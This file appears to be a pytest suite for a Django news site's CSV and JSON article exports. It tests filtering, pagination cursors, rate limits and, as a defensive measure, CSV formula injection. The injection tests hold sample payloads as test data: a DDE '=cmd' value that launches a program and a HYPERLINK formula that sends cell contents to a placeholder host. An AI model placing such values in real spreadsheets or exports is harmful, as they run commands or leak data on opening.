import csv
import datetime
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.exports import COLUMNS, csv_lines
from articles.models import Article
from tests.factories import at, make_article

pytestmark = pytest.mark.django_db


def body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def csv_rows(response):
    """The CSV's rows as a spreadsheet reads them: UTF-8 with its byte order mark."""
    text = body(response)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture
def archive():
    make_article("Erbil story", regions=["erbil-city"], tags=["Oil"], bylines=["A", "B"],
                 published_at=at("2020-03-09 12:00"))  # fmt: skip
    make_article("Basra story", regions=["basra-city"], published_at=at("2020-03-10 12:00"))
    make_article("Draft story", regions=["erbil-city"], status=Article.Status.DRAFT)


def test_csv_export_follows_the_list_filters(client, archive):
    response = client.get("/articles/export.csv?region=kurdistan-region")
    assert response["Content-Type"].startswith("text/csv")
    header, *cells = csv_rows(response)
    rows = [dict(zip(header, row, strict=True)) for row in cells]
    assert [row["headline"] for row in rows] == ["Erbil story"]
    assert rows[0]["bylines"] == "A; B"
    assert rows[0]["regions"] == "erbil-city"
    assert rows[0]["published_at"] == "2020-03-09T12:00:00+03:00"
    assert rows[0]["url"].startswith("http://testserver/articles/2020/03/09/")


def test_json_export_lists_every_published_match(client, archive):
    data = json.loads(body(client.get("/articles/export.json?from=2020-03-01")))
    assert [a["headline"] for a in data["articles"]] == ["Basra story", "Erbil story"]
    assert data["query"] == {"from": "2020-03-01"}


def test_export_never_includes_unpublished_work(client, archive):
    assert "Draft story" not in body(client.get("/articles/export.csv"))
    assert "Draft story" not in body(client.get("/articles/export.json"))


def test_export_of_an_empty_result_is_valid(client):
    assert json.loads(body(client.get("/articles/export.json")))["articles"] == []
    assert body(client.get("/articles/export.csv")).startswith('\ufeff"id","url","headline"')


def test_export_with_a_bad_filter_is_a_400_with_the_reason(client):
    response = client.get("/articles/export.json?date=2020-13-45")
    assert response.status_code == 400
    assert "date" in response.json()["errors"]


def test_export_streams_and_queries_per_chunk_not_per_row(client, django_assert_max_num_queries):
    for _ in range(30):
        make_article(regions=["erbil-city"], tags=["Oil"], bylines=["A"])
    with django_assert_max_num_queries(8):
        rows = body(client.get("/articles/export.csv?language=all")).strip().splitlines()
    assert len(rows) == 31


# --- Formulas (CSV injection) -----------------------------------------------------------

FORMULA_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
# Spaces, controls and direction marks a spreadsheet may skip before a formula sign.
INVISIBLE = " \t\r\n\x0b\x0c\u00a0\u200b\u200e\u200f\u061c\ufeff\u2028"


def spreadsheet_would_evaluate(cell):
    """Whether a spreadsheet could take `cell` as a formula: it starts with a sign, a
    tab, CR or LF, or with a sign after invisible characters. An apostrophe first
    makes any cell text."""
    if not cell or cell.startswith("'"):
        return False
    visible = cell.lstrip(INVISIBLE)
    return cell[0] in FORMULA_SIGNS + "\t\r\n" or bool(visible) and visible[0] in FORMULA_SIGNS


def test_csv_export_neutralises_formulas_in_every_column(client):
    from articles.models import Region

    Region.objects.filter(slug="erbil-city").update(name="=cmd|' /C calc'!A0")
    article = make_article(
        '=HYPERLINK("http://example.invalid/?x="&A1,"Sources")',
        summary="@SUM(1+1)",
        source="+Wire",
        bylines=["-2+3", "\u200f=1+1"],
        tags=["Oil"],
        dateline="erbil-city",
        published_at=at("2020-03-09 12:00"),
    )
    header, row = csv_rows(client.get("/articles/export.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["headline"] == "'" + article.headline
    assert cells["summary"] == "'@SUM(1+1)"
    assert cells["source"] == "'+Wire"
    assert cells["bylines"] == "'-2+3; \u200f=1+1"
    assert cells["dateline"] == "'=cmd|' /C calc'!A0"
    assert not any(spreadsheet_would_evaluate(cell) for cell in header + row)


def test_csv_quotes_every_cell_so_no_separator_starts_a_new_one(client):
    # Opened where ";" separates cells, an unquoted "a;=1+1" would become "a" and "=1+1".
    make_article("Oil;=1+1", summary="Basra,@SUM(1)", source="Wire\t=2", bare=True)
    lines = body(client.get("/articles/export.csv")).removeprefix("\ufeff").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert '"Oil;=1+1"' in lines[1]


def test_json_export_keeps_the_exact_text(client):
    make_article("=1+1", summary="@SUM(1+1)", source="+Wire", bylines=["-Agency"])
    (row,) = json.loads(body(client.get("/articles/export.json")))["articles"]
    assert (row["headline"], row["summary"], row["source"]) == ("=1+1", "@SUM(1+1)", "+Wire")
    assert row["bylines"] == ["-Agency"]


def test_csv_export_keeps_arabic_script_readable(client):
    make_article("مقتل جنديين في أربيل", language="ar")
    text = body(client.get("/articles/export.csv?language=ar"))
    assert text.startswith("\ufeff")  # spreadsheets then read the file as UTF-8
    (row,) = csv_rows(client.get("/articles/export.csv?language=ar"))[1:]
    assert "مقتل جنديين في أربيل" in row


hostile_text = st.tuples(
    st.sampled_from(["", *FORMULA_SIGNS, "\t", "\r", "\n", " =", "\u200f@", "\u061c+", "'"]),
    st.text(
        alphabet=st.one_of(
            st.sampled_from("=+-@\"';,\t\r\n \u200f\u200e\u061c\ufeff"),
            st.characters(min_codepoint=0x600, max_codepoint=0x6FF),  # Arabic script
            st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        ),
        max_size=30,
    ),
).map("".join)


@settings(max_examples=300, deadline=None)
@given(texts=st.lists(hostile_text, min_size=len(COLUMNS), max_size=len(COLUMNS)))
def test_any_cell_round_trips_as_text_no_spreadsheet_evaluates(texts):
    row = dict(zip(COLUMNS, texts, strict=True))
    row["tags"] = [texts[-1], texts[0]]  # lists are joined with "; "
    text = "".join(csv_lines([row]))
    assert text.startswith("\ufeff")
    header, cells = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert header == COLUMNS
    originals = [*texts[:-1], f"{texts[-1]}; {texts[0]}"]
    for cell, original in zip(cells, originals, strict=True):
        assert not spreadsheet_would_evaluate(cell)
        assert cell in (original, "'" + original)


# --- Bounded exports: pages with a continuation -----------------------------------------


def follow_pages(client, url):
    """Every page of an export, following its Link: rel=next; returns (articles, urls)."""
    articles, urls = [], []
    while url:
        urls.append(url)
        response = client.get(url)
        data = json.loads(body(response))
        articles += data["articles"]
        url = data["next"]
        link = response.get("Link")
        assert (link == f'<{url}>; rel="next"') if url else link is None
    return articles, urls


def test_an_export_is_a_page_with_a_link_to_the_next(client, settings):
    from articles import exports

    for hour in range(7):
        make_article(regions=["erbil-city"], published_at=at(f"2020-03-09 {10 + hour}:00"))
    same_moment = at("2020-03-09 09:00")
    tied = [make_article(regions=["erbil-city"], published_at=same_moment) for _ in range(3)]
    make_article(regions=["basra-city"])
    articles, urls = follow_pages(
        client, "/articles/export.json?region=erbil-city&language=all&limit=4&j=1"
    )
    assert len(urls) == 3  # 10 articles (in every language), 4 a page
    assert all(
        "region=erbil-city" in u and "language=all" in u and "j=1" not in u for u in urls[1:]
    )
    ids = [a["id"] for a in articles]
    assert len(ids) == len(set(ids)) == 10
    assert ids[-3:] == sorted((a.pk for a in tied), reverse=True)
    assert [a["published_at"] for a in articles] == sorted(
        (a["published_at"] for a in articles), reverse=True
    )
    # Without a limit, a page holds DEFAULT_LIMIT articles.
    monkeypatched = exports.DEFAULT_LIMIT
    try:
        exports.DEFAULT_LIMIT = 6
        first = client.get("/articles/export.csv?region=erbil-city&language=all")
        assert len(csv_rows(first)) == 1 + 6
        assert "after=" in first["Link"]
    finally:
        exports.DEFAULT_LIMIT = monkeypatched


def test_pages_neither_repeat_nor_skip_when_an_article_arrives_between_them(client):
    made = [make_article(published_at=at(f"2020-03-09 {10 + h}:00"), bare=True) for h in range(6)]
    first = json.loads(body(client.get("/articles/export.json?language=all&limit=3")))
    make_article("Breaking", published_at=at("2020-03-09 14:30"), bare=True)  # among page 1's
    second = json.loads(body(client.get(first["next"])))
    ids = [a["id"] for a in first["articles"] + second["articles"]]
    assert ids == [a.pk for a in reversed(made)]
    assert second["next"] is None


def test_a_page_never_holds_more_than_the_maximum(client):
    from articles.exports import MAX_LIMIT

    response = client.get(f"/articles/export.json?limit={MAX_LIMIT + 1}")
    assert response.status_code == 400
    assert "limit" in response.json()["errors"]
    assert client.get(f"/articles/export.json?limit={MAX_LIMIT}").status_code == 200


@pytest.mark.parametrize(
    "query",
    ["limit=0", "limit=-5", "limit=lots", "limit=1e9", "after=yesterday",
     "after=2020-03-09T09:00:00.000000Z_0", "after=2020-13-45T09:00:00.000000Z_5",
     "after=9999-12-31T23:59:59.999999Z_99999999999999999999", "after=%D9%85_1"],
)  # fmt: skip
def test_a_bad_limit_or_cursor_is_a_400_with_the_reason(client, query):
    response = client.get(f"/articles/export.csv?{query}")
    assert response.status_code == 400
    assert set(response.json()["errors"]) <= {"limit", "after"}


def test_exports_beyond_the_per_process_limit_wait_their_turn_with_a_429(client):
    from django.conf import settings as site

    from articles import exports

    make_article()
    held = [exports.export_slot() for _ in range(site.EXPORTS_PER_PROCESS - 1)]
    try:
        streaming = client.get("/articles/export.csv")  # takes the last slot, not yet read
        assert streaming.status_code == 200
        refused = client.get("/articles/export.json")
        assert refused.status_code == 429
        assert int(refused["Retry-After"]) > 0
        assert "Too many exports" in refused.json()["errors"]["__all__"][0]
        b"".join(streaming.streaming_content)  # sent in full: the slot is free again
        again = client.get("/articles/export.json")
        assert again.status_code == 200
        b"".join(again.streaming_content)
        # A refused filter gives its slot back at once.
        for _ in range(3):
            assert client.get("/articles/export.csv?limit=x").status_code == 400
        assert client.get("/articles/export.csv").status_code == 200
    finally:
        for slot in held:
            slot.release()


def test_export_updated_at_is_never_before_publication(client):
    scheduled_then_due = make_article()
    Article.objects.filter(pk=scheduled_then_due.pk).update(
        updated_at=scheduled_then_due.published_at - datetime.timedelta(days=5)
    )
    response = client.get("/articles/export.json")
    row = json.loads(b"".join(response.streaming_content))["articles"][0]
    assert row["updated_at"] >= row["published_at"]
